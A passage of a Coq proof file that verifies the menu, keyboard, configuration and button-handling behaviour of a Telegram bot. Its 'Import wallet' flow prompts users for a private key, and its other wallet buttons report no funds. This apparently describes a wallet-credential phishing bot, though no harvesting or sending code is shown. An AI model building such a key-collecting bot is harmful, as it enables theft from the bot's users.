  - refine (proj2 (proj2 (proj2 (proj2 (proj2 (proj2 (proj2
      (credential_is_stripped (H:=base58_package) (H0:=nacl_stand_in)
         (H1:=builtins_ascii) (delivering (Raise timed_out)) example_config
         (text_update (pad "")) (session true))))))) _ _)).
    + reflexivity.
    + exists [["009"%char]; [" "%char]; [" "%char]; ["010"%char];
              ["194"%char; "160"%char]; ["227"%char; "128"%char; "128"%char]].
      split; [repeat constructor|reflexivity].
Defined.

(** ** The intro and the main menu *)

Lemma http_requests_app l l' :
  http_requests (l ++ l') = (http_requests l ++ http_requests l')%list.
Proof. unfold http_requests; apply omap_app. Qed.

Section OnlyCalls.

Variable E : env.
Variable P : tg_call -> Prop.

Lemma only_calls_ret {A} (a : A) : only_calls P (mret a).
Proof.
  intros s; exists []; rewrite logged_nil.
  split; [reflexivity|split; [constructor|reflexivity]].
Qed.

Lemma only_calls_lift {A} (r : result A) : only_calls P (lift r).
Proof.
  intros s; exists []; rewrite logged_nil.
  split; [reflexivity|split; [constructor|reflexivity]].
Qed.

Lemma only_calls_get key : only_calls P (user_data_get key).
Proof.
  intros s; exists []; rewrite logged_nil.
  split; [reflexivity|split; [constructor|reflexivity]].
Qed.

Lemma only_calls_call c : P c -> only_calls P (call E c).
Proof.
  intros Hc s; exists [Tg c (outcome E s c)].
  split; [reflexivity|split; [repeat constructor; exact Hc|reflexivity]].
Qed.

Lemma only_calls_bind {A B} (m : M A) (f : A -> M B) :
  only_calls P m -> (forall a, only_calls P (f a)) -> only_calls P (m ≫= f).
Proof.
  intros Hm Hf s; destruct (Hm s) as (evs & Hs & HP & Hq).
  unfold mbind, M_bind; destruct (m s) as [[a|e] s1]; simpl in Hs; subst s1.
  - destruct (Hf a (logged s evs)) as (evs' & Hs' & HP' & Hq').
    exists (evs ++ evs')%list; rewrite Hs', logged_logged.
    rewrite tg_calls_app, http_requests_app, Hq, Hq'.
    split; [reflexivity|split; [apply Forall_app; auto|reflexivity]].
  - exists evs; auto.
Qed.

Lemma only_calls_try {A} (m : M A) (h : exn -> M A) :
  only_calls P m -> (forall e, only_calls P (h e)) ->
  only_calls P (try_except m h).
Proof.
  intros Hm Hh s; destruct (Hm s) as (evs & Hs & HP & Hq).
  unfold try_except; destruct (m s) as [[a|e] s1]; simpl in Hs; subst s1.
  - exists evs; auto.
  - destruct (Hh e (logged s evs)) as (evs' & Hs' & HP' & Hq').
    exists (evs ++ evs')%list; rewrite Hs', logged_logged.
    rewrite tg_calls_app, http_requests_app, Hq, Hq'.
    split; [reflexivity|split; [apply Forall_app; auto|reflexivity]].
Qed.

End OnlyCalls.

Ltac only_calls_steps :=
  repeat first
    [ apply only_calls_ret
    | apply only_calls_lift
    | apply only_calls_get
    | apply only_calls_try; [|intros ?]
    | apply only_calls_bind; [|intros ?]
    | apply only_calls_call ].

Lemma show_main_menu_only_calls E cfg u :
  only_calls (fun c => c <> intro_reply cfg) (show_main_menu E cfg u).
Proof.
  unfold show_main_menu; only_calls_steps; unfold intro_reply; discriminate.
Qed.

Lemma only_calls_user_data {A} P (m : M A) s :
  only_calls P m -> user_data (snd (m s)) = user_data s.
Proof. intros Hm; destruct (Hm s) as (evs & -> & _); reflexivity. Qed.

Lemma only_calls_new_events {A} P (m : M A) s :
  only_calls P m -> Forall P (tg_calls (new_events s (snd (m s)))).
Proof.
  intros Hm; destruct (Hm s) as (evs & -> & HP & _).
  rewrite new_events_logged; exact HP.
Qed.

Lemma delivered E lg c : all_delivered E -> exists i, telegram E lg c = Ok i.
Proof.
  intros Hall; specialize (Hall lg c).
  destruct (telegram E lg c) as [i|e]; [eauto|discriminate].
Qed.

Ltac deliver Hall :=
  repeat match goal with
         | |- context [telegram ?E ?lg ?c] =>
             let i := fresh "i" in
             let Hi := fresh "Hi" in
             destruct (delivered E lg c Hall) as [i Hi]; rewrite Hi;
             cbn [user_data log fst snd]
         end.

Section Intro.

Variable E : env.
Variable cfg : config.

Lemma start_command_seen u s :
  seen_welcome s = true ->
  start_command E cfg u s
  = try_except (show_main_menu E cfg u)
      (fun e => _ ← call E (reply_text error_reply None); mret tt) s.
Proof.
  intros Hseen; unfold start_command, try_except at 1.
  rewrite (bind_ok _ _ s true s) by (unfold user_data_get; fold (seen_welcome s);
                                     rewrite Hseen; reflexivity).
  reflexivity.
Qed.

Lemma start_command_unseen u s :
  seen_welcome s = false ->
  let s1 := after_call E s (intro_reply cfg) in
  let err := reply_text error_reply None in
  start_command E cfg u s
  = match outcome E s (intro_reply cfg) with
    | Ok _ => (Ok tt, with_flag "has_seen_welcome" true s1)
    | Raise _ => (then_return (outcome E s1 err) tt, after_call E s1 err)
    end.
Proof.
  intros Hseen s1 err; unfold start_command.
  unfold try_except.
  rewrite (bind_ok _ _ s false s) by (unfold user_data_get; fold (seen_welcome s);
                                      rewrite Hseen; reflexivity).
  cbn [negb]; fold (intro_reply cfg).
  unfold mbind, M_bind; rewrite !call_eq; fold s1.
  destruct (outcome E s (intro_reply cfg)); [reflexivity|].
  rewrite call_eq; fold err; destruct (outcome E s1 err); reflexivity.
Qed.

(** C4, amended.  On [/start] a session without the flag
    [has_seen_welcome] is sent the intro with its single Continue button,
    and once that reply is delivered the same [/start] sets the flag.  With
    the flag set, [/start] leaves [user_data] unchanged, never sends the
    intro, and when its calls are delivered shows the main menu.  A press
    of [continue_to_main] leaves [user_data] unchanged and, when its calls
    are delivered, shows the main menu with its 13 buttons. *)
Theorem intro_is_shown_on_first_start :
  (forall u s,
     seen_welcome s = false ->
     let s' := snd (start_command E cfg u s) in
     let r := outcome E s (intro_reply cfg) in
     exists tail,
       new_events s s' = Tg (intro_reply cfg) r :: tail
       /\ (is_ok r = true ->
           tail = [] /\ seen_welcome s' = true
           /\ user_data s' = <["has_seen_welcome" := true]> (user_data s)))
  /\ (forall u s,
        seen_welcome s = true ->
        let s' := snd (start_command E cfg u s) in
        user_data s' = user_data s
        /\ Forall (fun c => c <> intro_reply cfg) (tg_calls (new_events s s'))
        /\ (all_delivered E ->
            exists i,
              tg_calls (new_events s s')
              = [ reply_text connect_prompt None;
                  pin_chat_message (effective_chat_id u) i;
                  main_menu_reply cfg ]))
  /\ (forall q s,
        data q = "continue_to_main" ->
        let s' := snd (button_callback E cfg q s) in
        user_data s' = user_data s
        /\ (all_delivered E ->
            tg_calls (new_events s s')
            = [ answer; edit_message_text connect_prompt None;
                main_menu_reply cfg ]))
  /\ length (concat main_menu_markup) = 13%nat.
Proof.
  split; [|split; [|split; [|reflexivity]]].
  - intros u s Hseen s' r; unfold s'.
    rewrite (start_command_unseen u s Hseen); fold r.
    destruct r as [i|e] eqn:Hr.
    + exists []; cbn [snd]; unfold with_flag, new_events, after_call, logged.
      cbn [log user_data]; rewrite drop_app_length; fold r; rewrite Hr.
      split; [reflexivity|intros _; split; [reflexivity|split; [|reflexivity]]].
      unfold seen_welcome; cbn [user_data]; rewrite lookup_insert_eq; reflexivity.
    + eexists; cbn [snd]; rewrite after_call_twice, new_events_logged.
      fold r; rewrite Hr; split; [reflexivity|discriminate].
  - intros u s Hseen s'; unfold s'; rewrite (start_command_seen u s Hseen).
    assert (only_calls (fun c => c <> intro_reply cfg)
              (try_except (show_main_menu E cfg u)
                 (fun e => _ ← call E (reply_text error_reply None); mret tt)))
      as Hcalls.
    { apply only_calls_try; [apply show_main_menu_only_calls|intros e].
      only_calls_steps; unfold intro_reply; discriminate. }
    split; [apply (only_calls_user_data _ _ s Hcalls)|].
    split; [apply (only_calls_new_events _ _ s Hcalls)|].
    intros Hall; clear Hcalls; unfold show_main_menu.
    change (create_keyboard main_menu_buttons 2) with (Ok main_menu_markup).
    unfold_M; deliver Hall.
    eexists; unfold new_events; cbn [log].
    rewrite <- !app_assoc, drop_app_length; reflexivity.
  - intros q s Hq s'; unfold s', button_callback; rewrite Hq.
    rewrite (bool_decide_eq_false_2 ("continue_to_main" = "👛 Wallets"))
      by discriminate.
    rewrite (bool_decide_eq_false_2 ("continue_to_main" = "🔑 Import wallet"))
      by discriminate.
    rewrite (bool_decide_eq_true_2 ("continue_to_main" = "continue_to_main"))
      by reflexivity.
    split.
    + apply (only_calls_user_data (fun _ => True)); only_calls_steps; exact I.
    + intros Hall.
      change (create_keyboard main_menu_buttons 2) with (Ok main_menu_markup).
      unfold_M; deliver Hall.
      unfold new_events; cbn [log].
      rewrite <- !app_assoc, drop_app_length; reflexivity.
Qed.

End Intro.

Lemma intro_is_shown_on_first_start_witness :
  exists tail,
    log (snd (start_command (delivering (Raise timed_out)) example_config
                (text_update "/start") fresh_session))
    = Tg (intro_reply example_config) (Ok 7) :: tail.
Proof.
  destruct (proj1 (intro_is_shown_on_first_start (delivering (Raise timed_out))
                     example_config)
              (text_update "/start") fresh_session eq_refl) as [tail [Hev _]].
  exists tail; exact Hev.
Defined.

(** C4 as stated fails: the first [/start] sets the flag before any
    button is pressed, and a second [/start] shows the main menu, not the
    intro. *)
Lemma repeated_start_counterexample :
  let E := delivering (Raise timed_out) in
  let s1 :=
    snd (start_command E example_config (text_update "/start") fresh_session) in
  let s2 := snd (start_command E example_config (text_update "/start") s1) in
  tg_calls (log s1) = [intro_reply example_config]
  /\ user_data s1 !! "has_seen_welcome" = Some true
  /\ tg_calls (new_events s1 s2)
     = [ reply_text connect_prompt None; pin_chat_message 42 7;
         main_menu_reply example_config ].
Proof. vm_compute; repeat split. Qed.

(** * Further properties of the code *)

(** ** [create_keyboard] *)

Lemma keyboard_rows_spec (row_width fuel : nat) (buttons : list string) :
  (0 < row_width)%nat -> (length buttons <= fuel)%nat ->
  let kb := keyboard_rows fuel row_width buttons in
  concat kb = map (fun btn => CallbackButton btn btn) buttons
  /\ Forall (fun row => (0 < length row <= row_width)%nat) kb
  /\ (length buttons <= length kb * row_width)%nat
  /\ (length kb * row_width < length buttons + row_width)%nat
  /\ (forall i row,
        kb !! i = Some row -> (S i < length kb)%nat ->
        length row = row_width).
Proof.
  intros Hw; revert buttons; induction fuel as [|fuel IH]; intros buttons Hf.
  - destruct buttons; [|simpl in Hf; lia]; simpl.
    split; [reflexivity|split; [constructor|split; [lia|split; [lia|]]]].
    intros i row Hi; destruct i; discriminate.
  - destruct buttons as [|b buttons].
    { simpl.
      split; [reflexivity|split; [constructor|split; [lia|split; [lia|]]]].
      intros i row Hi; destruct i; discriminate. }
    set (l := b :: buttons) in *.
    assert (length (drop row_width l) <= fuel)%nat as Hd
      by (rewrite length_drop; unfold l in *; simpl in *; lia).
    destruct (IH (drop row_width l) Hd) as (Hc & Hr & Hlo & Hhi & Hfull).
    change (keyboard_rows (S fuel) row_width l)
      with (map (fun btn => CallbackButton btn btn) (take row_width l)
            :: keyboard_rows fuel row_width (drop row_width l)).
    cbv zeta; cbn [concat length].
    set (kb' := keyboard_rows fuel row_width (drop row_width l)) in *.
    rewrite length_drop in Hlo, Hhi.
    assert (0 < length l)%nat as Hl by (unfold l; simpl; lia).
    split; [rewrite Hc, <- map_app, take_drop; reflexivity|].
    split; [constructor; [rewrite length_map, length_take; lia|exact Hr]|].
    assert (S (length kb') * row_width = row_width + length kb' * row_width)%nat
      as Hmul by reflexivity.
    split; [lia|split].
    { destruct (Nat.le_gt_cases row_width (length l)) as [Hge|Hlt]; [lia|].
      assert (length kb' = 0)%nat as Hk by nia.
      rewrite Hmul, Hk; simpl; lia. }
    intros [|i] row Hi Hlen; simpl in Hi, Hlen.
    + injection Hi as <-; rewrite length_map, length_take.
      destruct (Nat.le_gt_cases row_width (length l)) as [Hge|Hlt]; [lia|].
      assert (length kb' = 0)%nat as Hk by nia.
      lia.
    + apply (Hfull i row Hi); lia.
Qed.

(** X1.  [create_keyboard] raises on a row width of zero.  On a positive
    row width it lays the buttons out in order, one callback button per
    label with the label as callback data, none lost and none repeated;
    no row is empty or longer than the width, every row but the last is
    full, and the number of rows is the number of labels divided by the
    width, rounded up. *)
Theorem create_keyboard_partitions (buttons : list string) (row_width : nat) :
  is_ok (create_keyboard buttons 0) = false
  /\ ((0 < row_width)%nat ->
      exists kb,
        create_keyboard buttons row_width = Ok kb
        /\ concat kb = map (fun btn => CallbackButton btn btn) buttons
        /\ Forall (fun row => (0 < length row <= row_width)%nat) kb
        /\ (forall i row,
              kb !! i = Some row -> (S i < length kb)%nat ->
              length row = row_width)
        /\ (length buttons <= length kb * row_width)%nat
        /\ (length kb * row_width < length buttons + row_width)%nat).
Proof.
  split; [reflexivity|intros Hw].
  destruct row_width as [|w]; [lia|].
  eexists; split; [reflexivity|].
  destruct (keyboard_rows_spec (S w) (length buttons) buttons Hw
              (Nat.le_refl _)) as (Hc & Hr & Hlo & Hhi & Hfull).
  repeat split; assumption.
Qed.

Lemma create_keyboard_partitions_witness :
  exists kb,
    create_keyboard wallet_menu_buttons 3 = Ok kb
    /\ map length kb = [3; 3; 2]%nat.
Proof.
  destruct (proj2 (create_keyboard_partitions wallet_menu_buttons 3))
    as (kb & Hkb & _); [repeat constructor|].
  exists kb; split; [exact Hkb|].
  injection Hkb as <-; reflexivity.
Defined.

(** ** Start-up, completed *)

Lemma Forall2_map_result {A B} (f : A -> result B) (l : list A) (l' : list B) :
  Forall2 (fun x y => f x = Ok y) l l' -> map_result f l = Ok l'.
Proof.
  induction 1 as [|x y l l' Hx _ IH]; [reflexivity|].
  simpl; rewrite Hx, IH; reflexivity.
Qed.

Lemma truthy_opt_true (o : option string) :
  truthy_opt o = true <-> exists t, o = Some t /\ t <> "".
Proof.
  destruct o as [[|c t]|]; simpl; split.
  - discriminate.
  - intros (t' & [= <-] & Ht); congruence.
  - intros _; eexists; split; [reflexivity|discriminate].
  - reflexivity.
  - discriminate.
  - intros (t' & Heq & _); discriminate.
Qed.

(** X2.  Loading the module succeeds exactly when [API_TOKEN] and
    [ADMIN_IDS] are set to non-empty strings and [int] accepts every
    comma-separated piece of [ADMIN_IDS] once stripped.  The configuration
    then holds the token, the parsed integers in the order of the pieces,
    and [LINK_URL] from the environment or, when it is not set, the
    default link. *)
Theorem load_module_succeeds_iff `{Builtins} (environ : gmap string string)
    (cfg : config) :
  load_module environ = Ok cfg
  <-> exists token ids,
        environ !! "API_TOKEN" = Some token /\ token <> ""
        /\ environ !! "ADMIN_IDS" = Some ids /\ ids <> ""
        /\ Forall2 (fun piece n => py_int (strip piece) = Ok n)
                   (str_split "," ids) (ADMIN_ID_LIST cfg)
        /\ API_TOKEN cfg = token
        /\ LINK_URL cfg
           = default "https://telegram.org" (environ !! "LINK_URL").
Proof.
  unfold load_module; split.
  - destruct (truthy_opt (environ !! "API_TOKEN")) eqn:Ht; [|discriminate].
    destruct (truthy_opt (environ !! "ADMIN_IDS")) eqn:Hi; [|discriminate].
    apply truthy_opt_true in Ht as (token & Htok & Hne).
    apply truthy_opt_true in Hi as (ids & Hids & Hne').
    cbn [negb orb]; rewrite Htok, Hids.
    change (default "" (Some ids)) with ids.
    change (default "" (Some token)) with token.
    destruct (map_result _ _) as [l|e] eqn:Hl;
      [|destruct (is_ValueError e); discriminate].
    intros [= <-]; exists token, ids; cbn [ADMIN_ID_LIST API_TOKEN LINK_URL].
    repeat split; try assumption.
    apply map_result_Forall2 in Hl; exact Hl.
  - intros (token & ids & Htok & Hne & Hids & Hne' & Hall & Hcfg & Hlink).
    rewrite Htok, Hids.
    change (default "" (Some ids)) with ids.
    change (default "" (Some token)) with token.
    rewrite (proj2 (truthy_opt_true (Some token))) by eauto.
    rewrite (proj2 (truthy_opt_true (Some ids))) by eauto.
    cbn [negb orb].
    rewrite (Forall2_map_result (fun admin_id => py_int (strip admin_id))
               _ _ Hall).
    destruct cfg as [tok l link]; simpl in *; subst; reflexivity.
Qed.

Lemma load_module_succeeds_iff_witness :
  load_module (H:=builtins_ascii)
    {[ "API_TOKEN" := "token"; "ADMIN_IDS" := "11 ,12, 13" ]}
  = Ok example_config.
Proof.
  apply (proj2 (load_module_succeeds_iff (H:=builtins_ascii) _ example_config)).
  exists "token", "11 ,12, 13".
  split; [reflexivity|split; [discriminate|split; [reflexivity|]]].
  split; [discriminate|split; [|split; reflexivity]].
  repeat constructor.
Defined.

(** ** [button_callback] *)

Section Behaves.

Variable E : env.
Variable P : tg_call -> Prop.

Lemma behaves_ret {A} (Q : A -> Prop) (a : A) : Q a -> behaves P Q (mret a).
Proof.
  intros Ha s; exists []; rewrite logged_nil.
  split; [reflexivity|split; [constructor|split; [reflexivity|]]].
  intros a' [= <-]; exact Ha.
Qed.

Lemma behaves_lift {A} (Q : A -> Prop) (r : result A) :
  (forall a, r = Ok a -> Q a) -> behaves P Q (lift r).
Proof.
  intros Hr s; exists []; rewrite logged_nil.
  split; [reflexivity|split; [constructor|split; [reflexivity|exact Hr]]].
Qed.

Lemma behaves_call (Q : Z -> Prop) (c : tg_call) :
  P c -> (forall i, Q i) -> behaves P Q (call E c).
Proof.
  intros Hc HQ s; exists [Tg c (outcome E s c)].
  split; [reflexivity|split; [repeat constructor; exact Hc|]].
  split; [reflexivity|intros i _; apply HQ].
Qed.

Lemma behaves_bind {A B} (Q1 : A -> Prop) (Q : B -> Prop) (m : M A)
    (f : A -> M B) :
  behaves P Q1 m -> (forall a, Q1 a -> behaves P Q (f a)) ->
  behaves P Q (m ≫= f).
Proof.
  intros Hm Hf s; destruct (Hm s) as (evs & Hs & HP & Hq & HQ1).
  unfold mbind, M_bind; destruct (m s) as [[a|e] s1]; simpl in Hs; subst s1.
  - destruct (Hf a (HQ1 a eq_refl) (logged s evs))
      as (evs' & Hs' & HP' & Hq' & HQ).
    exists (evs ++ evs')%list; rewrite Hs', logged_logged.
    rewrite tg_calls_app, http_requests_app, Hq, Hq'.
    split; [reflexivity|split; [apply Forall_app; auto|]].
    split; [reflexivity|exact HQ].
  - exists evs; split; [reflexivity|split; [exact HP|split; [exact Hq|]]].
    intros b; discriminate.
Qed.

Lemma behaves_try {A} (Q : A -> Prop) (m : M A) (h : exn -> M A) :
  behaves P Q m -> (forall e, behaves P Q (h e)) ->
  behaves P Q (try_except m h).
Proof.
  intros Hm Hh s; destruct (Hm s) as (evs & Hs & HP & Hq & HQ).
  unfold try_except; destruct (m s) as [[a|e] s1]; simpl in Hs; subst s1.
  - exists evs; auto.
  - destruct (Hh e (logged s evs)) as (evs' & Hs' & HP' & Hq' & HQ').
    exists (evs ++ evs')%list; rewrite Hs', logged_logged.
    rewrite tg_calls_app, http_requests_app, Hq, Hq'.
    split; [reflexivity|split; [apply Forall_app; auto|]].
    split; [reflexivity|exact HQ'].
Qed.

End Behaves.

Ltac behaves_steps :=
  repeat first
    [ apply behaves_ret
    | apply behaves_lift
    | apply behaves_call
    | apply behaves_try; [|intros ?]
    | apply behaves_bind with (Q1 := fun _ => True); [|intros ? _]
    | match goal with
      | |- behaves _ _ (if ?b then _ else _) => destruct b
      end ].

Section Buttons.

Variable E : env.
Variable cfg : config.

Lemma button_callback_no_answer q s e :
  outcome E s answer = Raise e ->
  button_callback E cfg q s = (Raise e, after_call E s answer).
Proof.
  intros Ha; unfold button_callback.
  apply bind_raise; rewrite call_eq, Ha; reflexivity.
Qed.

Lemma button_callback_behaves q :
  data q <> "🔑 Import wallet" ->
  behaves in_chat (fun r => r = None) (button_callback E cfg q).
Proof.
  intros Hq; unfold button_callback; cbv zeta.
  rewrite (bool_decide_eq_false_2 (data q = "🔑 Import wallet")) by exact Hq.
  behaves_steps; try exact I; try reflexivity; try (intros; exact I).
Qed.

(** X3.  When [query.answer()] raises, [button_callback] makes no other
    call and the exception leaves the handler.  A press of any button
    other than the import button never changes [user_data], posts no
    request, makes only calls that answer in the chat of the press, and
    does not return [WAITING_FOR_PRIVATE_KEY], whatever the transport
    does. *)
Theorem other_buttons_keep_session (q : callback_query) (s : state) :
  let s' := snd (button_callback E cfg q s) in
  let returned := fst (button_callback E cfg q s) in
  (forall e,
     outcome E s answer = Raise e ->
     returned = Raise e /\ s' = after_call E s answer)
  /\ (data q <> "🔑 Import wallet" ->
      user_data s' = user_data s
      /\ http_requests (new_events s s') = []
      /\ Forall in_chat (tg_calls (new_events s s'))
      /\ returned <> Ok (Some WAITING_FOR_PRIVATE_KEY)).
Proof.
  intros s' returned; split.
  - intros e He; unfold s', returned.
    rewrite (button_callback_no_answer q s e He); split; reflexivity.
  - intros Hq.
    destruct (button_callback_behaves q Hq s) as (evs & Hs & HP & Hr & HQ).
    unfold s', returned; rewrite Hs, new_events_logged.
    split; [reflexivity|split; [exact Hr|split; [exact HP|]]].
    intros Hret; specialize (HQ _ Hret); discriminate.
Qed.

End Buttons.

Lemma other_buttons_keep_session_witness :
  user_data (snd (button_callback (blocking [] (Raise timed_out))
                    example_config (press "🔙 Return") (session true)))
  = user_data (session true).
Proof.
  apply (proj2 (other_buttons_keep_session (blocking [] (Raise timed_out))
                  example_config (press "🔙 Return") (session true))).
  discriminate.
Defined.

Section ImportPress.

Variable E : env.
Variable cfg : config.

Lemma button_callback_import q s i :
  data q = "🔑 Import wallet" ->
  outcome E s answer = Ok i ->
  let s1 := after_call E s answer in
  let s2 := after_call E s1 import_prompt in
  let err := reply_text error_reply None in
  button_callback E cfg q s
  = match outcome E s1 import_prompt with
    | Ok _ =>
        (Ok (Some WAITING_FOR_PRIVATE_KEY),
         with_flag "awaiting_private_key" true s2)
    | Raise _ => (then_return (outcome E s2 err) None, after_call E s2 err)
    end.
Proof.
  intros Hq Ha s1 s2 err; unfold button_callback; cbv zeta; rewrite Hq.
  rewrite (bool_decide_eq_false_2 ("🔑 Import wallet" = "👛 Wallets"))
    by discriminate.
  rewrite (bool_decide_eq_true_2 ("🔑 Import wallet" = "🔑 Import wallet"))
    by reflexivity.
  rewrite (bind_ok _ _ s i s1) by (rewrite call_eq, Ha; reflexivity).
  fold import_prompt.
  destruct (outcome E s1 import_prompt) as [j|e] eqn:He.
  - rewrite (try_bind_ok _ _ _ s1 j s2) by (rewrite call_eq, He; reflexivity).
    reflexivity.
  - rewrite (try_bind_raise _ _ _ s1 e s2)
      by (rewrite call_eq, He; reflexivity).
    unfold mbind, M_bind; rewrite call_eq; fold err.
    destruct (outcome E s2 err); reflexivity.
Qed.

(** X4.  A press of the import button, once answered, edits the message
    into the prompt for a credential.  When that edit is delivered the
    handler sets [awaiting_private_key] to true, touches no other entry
    of [user_data] and returns [WAITING_FOR_PRIVATE_KEY].  When the edit
    raises, [user_data] is unchanged, the generic error reply is sent and
    the handler does not return [WAITING_FOR_PRIVATE_KEY]. *)
Theorem import_press_starts_capture (q : callback_query) (s : state) :
  data q = "🔑 Import wallet" ->
  is_ok (outcome E s answer) = true ->
  let s' := snd (button_callback E cfg q s) in
  let returned := fst (button_callback E cfg q s) in
  let edited := outcome E (after_call E s answer) import_prompt in
  (is_ok edited = true ->
   returned = Ok (Some WAITING_FOR_PRIVATE_KEY)
   /\ user_data s' = <["awaiting_private_key" := true]> (user_data s)
   /\ awaiting s'
   /\ tg_calls (new_events s s') = [answer; import_prompt])
  /\ (is_ok edited = false ->
      returned <> Ok (Some WAITING_FOR_PRIVATE_KEY)
      /\ user_data s' = user_data s
      /\ tg_calls (new_events s s')
         = [answer; import_prompt; reply_text error_reply None]).
Proof.
  intros Hq Ha s' returned edited.
  destruct (outcome E s answer) as [i|e] eqn:Hans; [|discriminate].
  pose proof (button_callback_import q s i Hq Hans) as Hrun.
  cbv zeta in Hrun; fold edited in Hrun.
  unfold s', returned; rewrite Hrun.
  destruct edited as [j|e]; split; try discriminate; intros _; cbn [fst snd].
  - split; [reflexivity|split; [reflexivity|split]].
    + unfold awaiting, with_flag; cbn [user_data]; apply lookup_insert_eq.
    + change (new_events s (with_flag "awaiting_private_key" true
                (after_call E (after_call E s answer) import_prompt)))
        with (new_events s (after_call E (after_call E s answer) import_prompt)).
      rewrite after_call_twice, new_events_logged; reflexivity.
  - split; [apply then_return_not; discriminate|split; [reflexivity|]].
    unfold after_call; rewrite !logged_logged, new_events_logged; reflexivity.
Qed.

End ImportPress.

Lemma import_press_starts_capture_witness :
  awaiting (snd (button_callback (delivering (Raise timed_out)) example_config
                   (press "🔑 Import wallet") fresh_session)).
Proof.
  apply (proj1 (import_press_starts_capture (delivering (Raise timed_out))
                  example_config (press "🔑 Import wallet") fresh_session
                  eq_refl eq_refl)).
  reflexivity.
Defined.

Ltac absurd_member Hin :=
  unfold wallet_menu_buttons in Hin;
  repeat (apply elem_of_cons in Hin as [Hin|Hin]; [discriminate Hin|]);
  inversion Hin.

Ltac not_listed Hin :=
  let Heq := fresh "Heq" in
  intros Heq; rewrite Heq in Hin; absurd_member Hin.

Section ButtonTable.

Variable E : env.
Variable cfg : config.

(** X5.  With a transport that delivers, a press is answered from the
    tables: a label of the wallet menu other than the import and return
    buttons gets the no-funds reply; a label outside the wallet menu that
    is not the wallets, continue or support button gets its text in
    [response_map], or the not-implemented reply when it has none.  Every
    label of the main menu except the wallets and support buttons has a
    text in [response_map] and is outside the wallet menu, so no button of
    the main menu gets the not-implemented reply. *)
Theorem button_replies_by_table (q : callback_query) (s : state) :
  all_delivered E ->
  let s' := snd (button_callback E cfg q s) in
  (data q ∈ wallet_menu_buttons ->
   data q <> "🔑 Import wallet" -> data q <> "🔙 Return" ->
   tg_calls (new_events s s') = [answer; reply_text no_funds None])
  /\ (data q ∉ wallet_menu_buttons ->
      data q ∉ ["👛 Wallets"; "continue_to_main"; "🆘 Support"] ->
      tg_calls (new_events s s')
      = [ answer;
          reply_text (default "❌ Feature not implemented yet."
                              (response_map !! data q)) None ])
  /\ (forall b,
        b ∈ main_menu_buttons -> b <> "👛 Wallets" -> b <> "🆘 Support" ->
        is_Some (response_map !! b) /\ b ∉ wallet_menu_buttons).
Proof.
  intros Hall s'; split; [|split].
  - intros Hin Himp Hret.
    assert (data q <> "👛 Wallets") as Hw by not_listed Hin.
    assert (data q <> "continue_to_main") as Hc by not_listed Hin.
    assert (data q <> "🆘 Support") as Hs by not_listed Hin.
    unfold s', button_callback; cbv zeta.
    rewrite !bool_decide_eq_false_2 by assumption.
    rewrite (bool_decide_eq_true_2 (data q ∈ wallet_menu_buttons) Hin).
    unfold_M; deliver Hall; unfold new_events; cbn [log].
    rewrite <- !app_assoc, drop_app_length; reflexivity.
  - intros Hout Hother.
    assert (data q <> "👛 Wallets" /\ data q <> "continue_to_main"
            /\ data q <> "🆘 Support") as (Hw & Hc & Hs).
    { repeat split; intros Heq; apply Hother; rewrite Heq;
        repeat first [apply list_elem_of_here | apply list_elem_of_further]. }
    assert (data q <> "🔑 Import wallet" /\ data q <> "🔙 Return")
      as (Himp & Hret).
    { split; intros Heq; apply Hout; rewrite Heq;
        repeat first [apply list_elem_of_here | apply list_elem_of_further]. }
    unfold s', button_callback; cbv zeta.
    rewrite !bool_decide_eq_false_2 by assumption.
    unfold_M; deliver Hall; unfold new_events; cbn [log].
    rewrite <- !app_assoc, drop_app_length; reflexivity.
  - intros b Hin Hw Hs.
    repeat (apply elem_of_cons in Hin as [->|Hin]);
      try contradiction; try (inversion Hin; fail);
      (split;
       [vm_compute; eexists; reflexivity
       |intros Hin'; absurd_member Hin']).
Qed.

End ButtonTable.

Lemma button_replies_by_table_witness :
  tg_calls (log (snd (button_callback (delivering (Raise timed_out))
                        example_config (press "📝 Manual") fresh_session)))
  = [answer; reply_text no_funds None]
  /\ tg_calls (log (snd (button_callback (delivering (Raise timed_out))
                           example_config (press "no such button")
                           fresh_session)))
     = [answer; reply_text "❌ Feature not implemented yet." None].
Proof.
  split.
  - apply (proj1 (button_replies_by_table (delivering (Raise timed_out))
                    example_config (press "📝 Manual") fresh_session
                    (fun _ _ => eq_refl))).
    + do 2 apply list_elem_of_further; apply list_elem_of_here.
    + discriminate.
    + discriminate.
  - etransitivity.
    + apply (proj1 (proj2 (button_replies_by_table
                (delivering (Raise timed_out)) example_config
                (press "no such button") fresh_session (fun _ _ => eq_refl)))).
      * intros Hin; absurd_member Hin.
      * intros Hin; absurd_member Hin.
    + vm_compute; reflexivity.
Defined.

(** ** Entries of [user_data] the handlers leave alone *)

Section Keeps.

Variable E : env.
Variable key : string.

Lemma keeps_ret {A} (a : A) : keeps key (mret a).
Proof. intros s; reflexivity. Qed.

Lemma keeps_lift {A} (r : result A) : keeps key (lift r).
Proof. intros s; reflexivity. Qed.

Lemma keeps_get k : keeps key (user_data_get k).
Proof. intros s; reflexivity. Qed.

Lemma keeps_call c : keeps key (call E c).
Proof. intros s; reflexivity. Qed.

Lemma keeps_set k v : key <> k -> keeps key (user_data_set k v).
Proof.
  intros Hk s; unfold user_data_set; cbn [snd user_data].
  apply lookup_insert_ne; congruence.
Qed.

Lemma keeps_bind {A B} (m : M A) (f : A -> M B) :
  keeps key m -> (forall a, keeps key (f a)) -> keeps key (m ≫= f).
Proof.
  intros Hm Hf s; specialize (Hm s); unfold mbind, M_bind.
  destruct (m s) as [[a|e] s1]; cbn [snd] in *; [|exact Hm].
  rewrite (Hf a s1); exact Hm.
Qed.

Lemma keeps_try {A} (m : M A) (h : exn -> M A) :
  keeps key m -> (forall e, keeps key (h e)) -> keeps key (try_except m h).
Proof.
  intros Hm Hh s; specialize (Hm s); unfold try_except.
  destruct (m s) as [[a|e] s1]; cbn [snd] in *; [exact Hm|].
  rewrite (Hh e s1); exact Hm.
Qed.

Lemma keeps_for_each {A} (l : list A) (body : A -> M unit) :
  (forall x, keeps key (body x)) -> keeps key (for_each l body).
Proof.
  intros Hbody; induction l as [|x l IH]; [apply keeps_ret|].
  cbn [for_each]; apply keeps_bind; [apply Hbody|intros _; exact IH].
Qed.

End Keeps.

Ltac keeps_steps :=
  repeat first
    [ apply keeps_ret
    | apply keeps_lift
    | apply keeps_get
    | apply keeps_call
    | apply keeps_set; congruence
    | apply keeps_try; [|intros ?]
    | apply keeps_for_each; intros ?
    | apply keeps_bind; [|intros ?]
    | match goal with
